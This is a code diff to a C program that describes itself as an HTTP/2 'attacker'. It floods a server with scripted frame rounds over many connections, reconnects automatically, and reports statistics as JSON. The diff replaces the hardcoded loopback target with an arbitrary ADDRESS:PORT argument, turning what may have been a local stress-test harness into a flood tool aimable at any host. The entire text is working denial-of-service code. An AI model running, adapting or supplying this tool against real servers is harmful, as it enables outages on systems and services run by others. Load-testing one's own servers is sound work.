@@ -1,7 +1,7 @@
 // An attacker with one HTTP/2 connection: sends a prologue, then rounds of frames as fast as it may, or so many per second.
 // When the connection ends it opens another after 10 ms, for as long as it lives. SIGTERM: one line of JSON on stdout.
 //
-//   flood PORT SCRIPT [-r ROUNDS_PER_SECOND] [-n] [-c CONNECTIONS]
+//   flood ADDRESS:PORT SCRIPT [-r ROUNDS_PER_SECOND] [-n] [-c CONNECTIONS]
 //
 // SCRIPT: four numbers of 32 bits, little endian: octets of the prologue, octets of a round, what each round adds to the stream
 // identifiers of its frames, and after how many rounds the connection is begun anew (0: never); then prologue and round.
@@ -37,8 +37,9 @@ static uint64_t now(void) {
     return t.tv_sec * 1000000000ull + t.tv_nsec;
 }
 
-static void dial(int i, int port) {
-    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+static struct sockaddr_in to = {.sin_family = AF_INET};
+
+static void dial(int i) {
     int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
     if (fd < 0 || connect(fd, (void *)&to, sizeof to)) {
         if (fd >= 0) close(fd);
@@ -87,10 +88,14 @@ int main(int argc, char **argv) {
     if (!file || connections > connectionsMax || fread(script, 4, 4, file) != 4 || script[0] > bufferBytes / 2 || !script[1] || script[1] > bufferBytes / 2) return 64;
     prologue = malloc(script[0] + 1), round_ = malloc(script[1]);
     if (fread(prologue, 1, script[0], file) != script[0] || fread(round_, 1, script[1], file) != script[1]) return 64;
-    int port = atoi(argv[optind]);
+    char *colon = strchr(argv[optind], ':');
+    if (!colon) return 64;
+    *colon = 0;
+    to.sin_port = htons(atoi(colon + 1));
+    if (inet_pton(AF_INET, argv[optind], &to.sin_addr) != 1) return 64;
     signal(SIGPIPE, SIG_IGN);
     signal(SIGTERM, stop);
-    for (int i = 0; i < connections; i++) buffer[i] = malloc(bufferBytes), dial(i, port);
+    for (int i = 0; i < connections; i++) buffer[i] = malloc(bufferBytes), dial(i);
     uint64_t began = now(), due = 0;
     struct pollfd wait[connectionsMax];
     while (!over) {
@@ -100,7 +105,7 @@ int main(int argc, char **argv) {
         for (int i = 0; i < connections; i++) {
             wait[i] = (struct pollfd){.fd = all[i].fd, .events = silent ? 0 : POLLIN};
             if (all[i].fd < 0) {
-                if (time >= all[i].again) dial(i, port);
+                if (time >= all[i].again) dial(i);
                 continue;
             }
             if (all[i].from == all[i].to) {
